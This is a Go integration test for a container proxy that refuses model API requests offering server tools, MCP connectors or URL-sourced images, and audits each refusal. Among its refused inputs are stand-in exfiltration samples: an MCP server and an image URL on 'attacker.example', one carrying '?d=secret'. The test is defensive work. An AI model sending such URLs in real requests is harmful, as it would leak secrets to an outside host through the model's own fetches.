package server_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/carapace-dev/carapace/core/home"
	"github.com/carapace-dev/carapace/keychain"
)

// bodyScript is a container script that starts ipc-relay and then sends
// each of its arguments, "PATH|BODY", as a raw HTTP/1.0 POST through it,
// printing each answer (status line, headers, body) and "--- end", as
// llmScript does.
const bodyScript = relayUp + `
cat > /tmp/call.sh <<'END'
printf 'POST %s HTTP/1.0\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n' "$1" "$(wc -c < "$2")"
cat "$2"
cat >&2
END
i=0
for call in "$@"; do
	i=$((i + 1))
	printf '%s' "${call#*|}" > /tmp/body.$i
	nc 127.0.0.1 $CARAPACE_LLM_PORT -e sh /tmp/call.sh "${call%%|*}" /tmp/body.$i 2>&1
	echo; echo "--- end"
done`

// TestServerToolsRefusedThroughTheRelay: from inside the real container,
// through ipc-relay and the core's proxy, a Messages request that offers
// a server tool (web search, web fetch), names MCP servers or points an
// image at a URL is refused with a 403 in the API's error shape that says
// which field and why, and audited; it never reaches the model API. An
// unreadable body is a 400. The control: the same session's ordinary
// request with client tools gets the model's answer, before the refusals
// and after them.
func TestServerToolsRefusedThroughTheRelay(t *testing.T) {
	up := newFakeModelAPI(t)
	c := startCoreWith(t, coreOptions{
		Config: dockerConfig(t, fmt.Sprintf("[llm]\nupstream = %q\nca_file = %q\n", up.URL, up.caFile(t))),
		Setup: func(h home.Dir) {
			if err := keychain.NewFileStore(h.CredentialsDir()).Set(keychain.LLMPlugin, keychain.LLMKeyAPI, []byte("sk-ant-api03-servertools")); err != nil {
				t.Fatal(err)
			}
		},
	})
	const (
		head        = `{"model":"claude-test-1","max_tokens":10,`
		hi          = `"messages":[{"role":"user","content":"hi"}]}`
		clientTools = `"tools":[{"name":"Bash","description":"run","input_schema":{"type":"object"}},{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"}],`
		ordinary    = "/v1/messages?beta=true|" + head + clientTools + `"messages":[{"role":"user","content":[{"type":"text","text":"look"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]}]}`
	)
	calls := []struct {
		call   string
		status int
		says   []string
	}{
		{ordinary, 200, []string{"hello from the fake model"}},
		{"/v1/messages?beta=true|" + head + `"tools":[{"name":"Bash","input_schema":{"type":"object"}},{"type":"web_search_20250305","name":"web_search"}],` + hi,
			403, []string{`"permission_error"`, "tools[1]", "web_search_20250305", "server tool"}},
		{"/v1/messages/count_tokens?beta=true|" + head + `"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],` + hi,
			403, []string{`"permission_error"`, "tools[0]", "web_fetch_20250910"}},
		{"/v1/messages?beta=true|" + head + `"mcp_servers":[{"type":"url","url":"https://attacker.example/sse","name":"x"}],` + hi,
			403, []string{`"permission_error"`, "mcp_servers", "MCP connector"}},
		{"/v1/messages?beta=true|" + head + `"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?d=secret"}}]}]}`,
			403, []string{`"permission_error"`, "messages[0].content[0].source", "fetch"}},
		{"/v1/messages?beta=true|" + head + `"tools":[`, 400, []string{`"invalid_request_error"`, "JSON"}},
		{ordinary, 200, []string{"hello from the fake model"}},
	}
	args := []string{"sh", "-c", bodyScript, "llm"}
	for _, cl := range calls {
		args = append(args, cl.call)
	}
	as, info := rawCalls(t, c, "main", args, len(calls))
	for i, cl := range calls {
		if as[i].Status != cl.status {
			t.Errorf("call %d: %d %q, want %d", i+1, as[i].Status, as[i].Body, cl.status)
			continue
		}
		for _, s := range cl.says {
			if !strings.Contains(as[i].Body, s) {
				t.Errorf("call %d: %q does not say %q", i+1, as[i].Body, s)
			}
		}
	}

	up.mu.Lock()
	forwarded := len(up.seen)
	up.mu.Unlock()
	if forwarded != 2 {
		t.Errorf("the model API got %d requests, want 2 (the two ordinary ones; a refused one must not reach it)", forwarded)
	}
	got := map[string][]string{}
	for _, e := range c.Audit(t) {
		if e.Session == info.ID && e.Stage == "llm" && e.Outcome == "rejected" {
			got[e.Code] = append(got[e.Code], e.Reason)
		}
	}
	if len(got["NETWORK_FEATURE"]) != 4 || len(got["BAD_REQUEST"]) != 1 || len(got) != 2 {
		t.Fatalf("rejections audited for session %s: %q; want 4 NETWORK_FEATURE and 1 BAD_REQUEST", info.ID, got)
	}
	for i, field := range []string{"tools[1]", "tools[0]", "mcp_servers", "messages[0].content[0].source"} {
		if !strings.Contains(got["NETWORK_FEATURE"][i], field) {
			t.Errorf("audit entry %d: %q does not name %s", i+1, got["NETWORK_FEATURE"][i], field)
		}
	}
}
